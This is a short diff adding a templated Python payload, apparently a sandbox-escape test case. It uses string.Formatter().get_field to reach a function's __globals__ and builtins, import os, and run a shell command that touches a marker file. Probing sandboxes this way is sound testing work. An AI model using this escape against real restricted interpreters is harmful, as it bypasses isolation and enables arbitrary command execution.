@@ -1,0 +1,10 @@
+# escape: string.Formatter().get_field walks attributes without the guard
+# effect: marker
+import string
+def probe():
+    pass
+g, _ = string.Formatter().get_field("0.__globals__", [probe], {{}})
+b = g["__builtins__"]
+imp = b["__import__"] if isinstance(b, dict) else b.__import__
+imp("os").system("touch {marker}")
+return "done"
